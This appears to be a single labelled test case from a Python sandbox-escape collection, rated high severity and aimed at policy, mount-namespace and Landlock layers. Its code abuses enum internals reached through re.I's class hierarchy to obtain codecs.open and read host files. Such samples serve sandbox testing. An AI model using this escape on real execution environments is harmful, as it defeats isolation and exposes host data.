# technique: the class of enumerations among the bases of an allowed module's flags
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import json
import re

def trick():
    base = type(re.I).mro()[-2]

    class Own(base):
        pass
    return Own._convert_("Found", "json", json.dumps)["codecs"].value.open

read_host(trick)
